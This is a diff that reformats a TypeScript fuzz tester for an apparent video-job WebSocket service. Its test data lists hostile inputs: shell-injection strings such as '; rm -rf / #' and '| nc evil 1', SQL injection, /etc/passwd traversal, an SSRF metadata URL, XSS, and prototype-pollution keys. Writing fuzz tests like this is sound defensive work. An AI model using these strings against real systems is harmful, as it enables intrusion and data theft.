@@ -25,21 +25,61 @@ const rand = prng(SEED);
 const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
 
 const NASTY_STRINGS = [
-  '; rm -rf / #', '$(reboot)', '`id`', '| nc evil 1 ', '&& curl x', "'; DROP TABLE jobs; --", '../../../../etc/passwd',
-  'file:///etc/passwd', 'concat:/etc/passwd|x', 'subtitles=/etc/passwd', '[0:v]split[a][b]', '\u0000', '\ud800', '𝕏'.repeat(50),
-  'x'.repeat(5000), '', ' ', '%n%s%x', '{{7*7}}', '<script>alert(1)</script>', 'http://169.254.169.254/latest/meta-data/',
+  '; rm -rf / #',
+  '$(reboot)',
+  '`id`',
+  '| nc evil 1 ',
+  '&& curl x',
+  "'; DROP TABLE jobs; --",
+  '../../../../etc/passwd',
+  'file:///etc/passwd',
+  'concat:/etc/passwd|x',
+  'subtitles=/etc/passwd',
+  '[0:v]split[a][b]',
+  '\u0000',
+  '\ud800',
+  '𝕏'.repeat(50),
+  'x'.repeat(5000),
+  '',
+  ' ',
+  '%n%s%x',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  'http://169.254.169.254/latest/meta-data/',
 ];
 const NASTY_NUMBERS = [0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1, 1e-320, 3.14159, 10.0000001, 0.2499999, 21, 20, 1e21];
-const OPERATIONS = ['speed', 'extract_audio', 'thumbnail', 'concat', 'subtitles', 'probe', 'compress', 'teleport', '__proto__', 'constructor'];
+const OPERATIONS = [
+  'speed',
+  'extract_audio',
+  'thumbnail',
+  'concat',
+  'subtitles',
+  'probe',
+  'compress',
+  'teleport',
+  '__proto__',
+  'constructor',
+];
 
 function junkValue(depth = 0): unknown {
   switch (Math.floor(rand() * (depth > 3 ? 4 : 7))) {
-    case 0: return pick(NASTY_STRINGS);
-    case 1: return pick(NASTY_NUMBERS);
-    case 2: return pick([true, false, null]);
-    case 3: return Math.floor(rand() * 1e6);
-    case 4: return Array.from({ length: Math.floor(rand() * 4) }, () => junkValue(depth + 1));
-    default: return Object.fromEntries(Array.from({ length: Math.floor(rand() * 4) }, () => [pick(['type', 'job_id', 'url', 'options', 'x', '__proto__']), junkValue(depth + 1)]));
+    case 0:
+      return pick(NASTY_STRINGS);
+    case 1:
+      return pick(NASTY_NUMBERS);
+    case 2:
+      return pick([true, false, null]);
+    case 3:
+      return Math.floor(rand() * 1e6);
+    case 4:
+      return Array.from({ length: Math.floor(rand() * 4) }, () => junkValue(depth + 1));
+    default:
+      return Object.fromEntries(
+        Array.from({ length: Math.floor(rand() * 4) }, () => [
+          pick(['type', 'job_id', 'url', 'options', 'x', '__proto__']),
+          junkValue(depth + 1),
+        ]),
+      );
   }
 }
 
@@ -50,8 +90,18 @@ function mutatedStartJob(i: number): Record<string, unknown> {
     job_id: `fz-${i}`,
     operation: pick(OPERATIONS),
     // a loopback URL the workers may not fetch: valid messages still fail safely as JOB_FAILED
-    input: pick([{ source: 'url', url: 'http://127.0.0.2/x.mp4' }, { source: 'url', urls: ['http://127.0.0.2/a', junkValue()] }, { source: pick(['url', 'upload', 'ftp']) }]),
-    options: { speed_factor: pick(NASTY_NUMBERS), format: pick(NASTY_STRINGS), count: pick(NASTY_NUMBERS), timestamp: pick(NASTY_NUMBERS), filters: junkValue() },
+    input: pick([
+      { source: 'url', url: 'http://127.0.0.2/x.mp4' },
+      { source: 'url', urls: ['http://127.0.0.2/a', junkValue()] },
+      { source: pick(['url', 'upload', 'ftp']) },
+    ]),
+    options: {
+      speed_factor: pick(NASTY_NUMBERS),
+      format: pick(NASTY_STRINGS),
+      count: pick(NASTY_NUMBERS),
+      timestamp: pick(NASTY_NUMBERS),
+      filters: junkValue(),
+    },
   };
   const keys = Object.keys(m);
   for (let k = 0; k < 1 + Math.floor(rand() * 2); k++) m[pick(keys)] = junkValue();
@@ -61,18 +111,26 @@ function mutatedStartJob(i: number): Record<string, unknown> {
 
 function textMessage(i: number): string {
   switch (i % 6) {
-    case 0: return JSON.stringify(mutatedStartJob(i));
-    case 1: return JSON.stringify({ type: pick(['cancel_job', 'ping', 'resume_job', 'start_job', 'PING', '', 'toString']), job_id: junkValue() });
-    case 2: return JSON.stringify(junkValue());
-    case 3: return JSON.stringify(mutatedStartJob(i)).slice(0, Math.floor(rand() * 80)); // truncated JSON
-    case 4: return randomBytes(1 + Math.floor(rand() * 64)).toString('latin1');
-    default: return `{"type":"start_job","operation":"speed","options":{"speed_factor":${pick(['NaN', 'Infinity', '-0', '1e999', '0x10', '"2"'])}}}`;
+    case 0:
+      return JSON.stringify(mutatedStartJob(i));
+    case 1:
+      return JSON.stringify({ type: pick(['cancel_job', 'ping', 'resume_job', 'start_job', 'PING', '', 'toString']), job_id: junkValue() });
+    case 2:
+      return JSON.stringify(junkValue());
+    case 3:
+      return JSON.stringify(mutatedStartJob(i)).slice(0, Math.floor(rand() * 80)); // truncated JSON
+    case 4:
+      return randomBytes(1 + Math.floor(rand() * 64)).toString('latin1');
+    default:
+      return `{"type":"start_job","operation":"speed","options":{"speed_factor":${pick(['NaN', 'Infinity', '-0', '1e999', '0x10', '"2"'])}}}`;
   }
 }
 
 function binaryMessage(): Buffer {
   const payload = randomBytes(Math.floor(rand() * 256));
-  const header = Buffer.from(pick([JSON.stringify({ job_id: 'fz', filename: pick(NASTY_STRINGS) }), JSON.stringify(junkValue()), 'not json', '']));
+  const header = Buffer.from(
+    pick([JSON.stringify({ job_id: 'fz', filename: pick(NASTY_STRINGS) }), JSON.stringify(junkValue()), 'not json', '']),
+  );
   const frame = Buffer.concat([Buffer.alloc(4), header, payload]);
   const lie = pick([header.length, 0, header.length + 1, 0xffffffff, frame.length, 3, 70000]);
   frame.writeUInt32BE(lie >>> 0, 0);
